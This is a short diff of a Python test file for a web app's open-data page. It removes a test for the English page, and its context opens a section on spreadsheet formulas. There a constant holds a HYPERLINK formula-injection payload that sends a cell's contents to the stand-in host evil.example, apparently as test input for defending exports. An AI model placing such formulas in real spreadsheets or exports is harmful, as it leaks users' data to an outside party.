@@ -94,11 +94,6 @@ def test_open_data_page_lists_every_endpoint_and_the_licence(client):
     assert html.count("<h1") == 1
 
 
-def test_open_data_page_in_english(client):
-    response = client.get("/en/offene-daten/")
-    assert response.status_code == 200
-
-
 # --- spreadsheet formulas ------------------------------------------------------------
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"L")'
